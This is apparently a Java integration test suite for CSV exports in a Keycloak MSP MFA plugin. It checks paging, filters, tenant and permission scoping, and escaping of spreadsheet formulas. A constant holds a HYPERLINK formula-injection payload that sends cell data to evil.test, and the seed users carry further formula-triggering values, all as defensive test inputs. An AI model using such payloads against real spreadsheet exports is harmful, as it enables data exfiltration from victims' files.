// SPDX-License-Identifier: Apache-2.0
// Copyright the Keycloak MSP MFA authors
package io.mspmfa.it.admin;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.mspmfa.it.admin.Staff.Person;
import io.mspmfa.it.http.Answer;
import io.mspmfa.it.realm.Policy;
import io.mspmfa.it.realm.Tenant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Users and tenants as files: the same as the lists, on one page, and safe to open in a spreadsheet. */
class CsvExportIT {
    /** More than a page of the list. */
    private static final int CROWD = 503;

    private static final String HOSTILE = "=HYPERLINK(\"http://evil.test?\"&A1,\"Acme; <b>עדה</b>\")";

    @RegisterExtension
    static final Tenant TENANT = Tenant.managed(Policy.optional());

    @RegisterExtension
    static final Tenant FOREIGN = Tenant.managed(Policy.optional());

    @RegisterExtension
    static final Staff STAFF = new Staff();

    @RegisterExtension
    static final AdminPermissions PERMISSIONS = new AdminPermissions(TENANT);

    private static String lastId = "";

    @BeforeAll
    static void aCrowd() {
        TENANT.userWithStockOtp("oldsecretoldsecretol");
        JsonNodeFactory json = JsonNodeFactory.instance;
        ObjectNode users = json.objectNode().put("ifResourceExists", "FAIL");
        ArrayNode list = users.putArray("users");
        for (int i = 0; i < CROWD; i++) {
            list.addObject().put("username", "zz%04d".formatted(i)).put("enabled", true);
        }
        list.addObject()
                .put("username", "-evil")
                .put("email", "+evil@acme.test")
                .put("firstName", "@SUM" + "A".repeat(200))
                .put("lastName", "\uff0d עדה-لوفلايس")
                .put("enabled", true);
        TENANT.admin().tryPost("/" + TENANT.name() + "/partialImport", users).ok();
        lastId = TENANT.admin()
                .get("/" + TENANT.name() + "/users?exact=true&username=zz0502")
                .at("/0/id")
                .asText();
    }

    @Test
    void X15_theFileHasAllPagesOfTheList() {
        Answer answer = TENANT.admin().tryGet(mfa("users.csv"));
        List<Map<String, String>> rows = Csv.rows(answer);
        JsonNode items = TENANT.admin().get(mfa("users?max=500")).path("items");

        Csv.assertFile(answer, "msp-mfa-users-" + TENANT.name() + ".csv");
        assertThat(rows).hasSizeGreaterThanOrEqualTo(CROWD + 2);
        assertThat(Csv.column(rows, "id")).doesNotHaveDuplicates().contains(lastId);
        assertThat(rows.get(0).keySet()).as("the columns").containsExactlyElementsOf(fields(items.get(0)));
        for (int i = 0; i < items.size(); i++) {
            assertThat(rows.get(i)).isEqualTo(cells(items.get(i)));
        }
    }

    /** What the list says is what would run in a spreadsheet. */
    @Test
    void X15_noCellIsAFormula() {
        JsonNode item = TENANT.admin().get(mfa("users?search=-evil")).at("/items/0");
        Map<String, String> row =
                Csv.rows(TENANT.admin().tryGet(mfa("users.csv?search=-evil"))).get(0);

        for (String field : List.of("username", "email", "firstName", "lastName")) {
            assertThat(item.path(field).asText()).as("the attack").matches("[-+@\uff0d].*");
            assertThat(row.get(field)).isEqualTo("'" + item.path(field).asText());
        }
    }

    @Test
    void X15_filtersAreThoseOfTheList() {
        assertThat(Csv.column(Csv.rows(TENANT.admin().tryGet(mfa("users.csv?enrolled=true"))), "methods"))
                .containsExactly("totp");
        assertThat(Csv.rows(TENANT.admin().tryGet(mfa("users.csv?search=nobody"))))
                .isEmpty();
        assertThat(TENANT.admin().tryGet(mfa("users.csv?search=nobody")).body())
                .as("the header")
                .startsWith("id,username,");
        for (String query : List.of("enrolled=x", "max=3", "after=x", "total=true", "state=asleep")) {
            Answer answer = TENANT.admin().tryGet(mfa("users.csv?" + query));
            assertThat(answer.status()).as(query).isEqualTo(400);
            assertThat(answer.json().path("fields").findValuesAsText("field"))
                    .containsExactly(query.replaceFirst("=.*", ""));
        }
    }

    /** Also on the pages that are read after the answer has begun. */
    @Test
    void P14_aCallerGetsOnlyTheUsersWhomTheyMaySee() {
        Person caller = STAFF.ofTenant(TENANT, "query-users");
        PERMISSIONS.permit(caller, "Users", "view", true);
        PERMISSIONS.permit(caller, "Users", "view", false, lastId);

        List<String> seen = Csv.column(Csv.rows(caller.api().tryGet(mfa("users.csv"))), "username");

        assertThat(seen).contains("zz0000", "zz0501").doesNotContain("zz0502");
    }

    @Test
    void X15_L22_aResellerGetsTheirOwnTenants() {
        TENANT.change(realm -> realm.put("displayName", HOSTILE));
        Person reseller = STAFF.reseller(TENANT, "view-mfa");

        Answer answer = reseller.api().tryGet("/master/msp-mfa/tenants.csv");
        JsonNode item = reseller.api().get("/master/msp-mfa/tenants").at("/items/0");
        List<Map<String, String>> rows = Csv.rows(answer);

        Csv.assertFile(answer, "msp-mfa-tenants-master.csv");
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).get("realm")).isEqualTo(TENANT.name());
        assertThat(rows.get(0).get("displayName")).isEqualTo("'" + HOSTILE);
        assertThat(rows.get(0).get("users")).isEqualTo(item.path("users").asText());
        assertThat(rows.get(0).keySet()).containsExactlyElementsOf(fields(item));
    }

    @Test
    void X15_L22_aTenantGetsNoListOfTenants() {
        Person admin = STAFF.ofTenant(TENANT, "realm-admin");

        assertThat(admin.api().tryGet("/master/msp-mfa/tenants.csv").status()).isEqualTo(403);
        assertThat(admin.api().tryGet(mfa("tenants.csv")).status()).isEqualTo(404);
        assertThat(admin.api()
                        .tryGet("/" + FOREIGN.name() + "/msp-mfa/users.csv")
                        .status())
                .isEqualTo(403);
    }

    private static List<String> fields(JsonNode item) {
        List<String> names = new ArrayList<>();
        item.fieldNames().forEachRemaining(names::add);
        return names;
    }

    /** What each cell should hold. */
    private static Map<String, String> cells(JsonNode item) {
        Map<String, String> cells = new LinkedHashMap<>();
        item.properties().forEach(field -> cells.put(field.getKey(), cell(field.getValue())));
        return cells;
    }

    private static String cell(JsonNode value) {
        if (value.isArray()) {
            return String.join(
                    " ",
                    StreamSupport.stream(value.spliterator(), false)
                            .map(JsonNode::asText)
                            .toList());
        }
        String text = value.isNull() ? "" : value.asText();
        return value.isTextual() && text.matches("[-+@=\uff0d].*") ? "'" + text : text;
    }

    private static String mfa(String path) {
        return "/" + TENANT.name() + "/msp-mfa/" + path;
    }
}
